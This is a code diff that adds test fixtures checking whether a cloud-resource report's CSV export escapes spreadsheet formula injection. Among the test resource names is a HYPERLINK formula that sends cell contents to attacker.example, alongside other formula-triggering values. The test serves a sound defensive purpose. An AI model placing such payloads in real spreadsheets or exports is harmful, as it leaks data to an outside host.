@@ -61,6 +61,35 @@ def estate_doc(public: bool = True, mfa: bool = False, fail: list[dict] | None =
     }
 
 
+# Resource names a cloud allows that a spreadsheet would run as formulas, and one it would not.
+FORMULA_NAMES = {
+    "b-public": '=HYPERLINK("http://attacker.example/?x="&A1,"open")',
+    "b-private": "+1",
+    "b-r2": "-2+3",
+    "u-alice": "@SUM(1)",
+}
+HARMLESS_NAME = "team=red"
+
+
+def formula_estate_doc() -> dict[str, Any]:
+    """estate_doc() with FORMULA_NAMES as names, and one more bucket named HARMLESS_NAME."""
+    doc = estate_doc()
+    for item in doc["resources"]:
+        item["name"] = FORMULA_NAMES[item["uid"]]
+    harmless = {"uid": "b-harmless", "name": HARMLESS_NAME, "config": {"public": False}}
+    doc["resources"].append({"service": "storage", "region": "r1", "type": "testcloud.storage.bucket", **harmless})
+    return doc
+
+
+def assert_csv_formulas_inert(text: str) -> None:
+    """Every FORMULA_NAMES name comes out behind a quote; HARMLESS_NAME as it is."""
+    import csv
+    import io
+
+    names = {row["resource_uid"]: row["resource_name"] for row in csv.DictReader(io.StringIO(text))}
+    assert names == {**{uid: "'" + name for uid, name in FORMULA_NAMES.items()}, "b-harmless": HARMLESS_NAME}
+
+
 class EstateFile:
     def __init__(self, path: Path) -> None:
         self.path = path
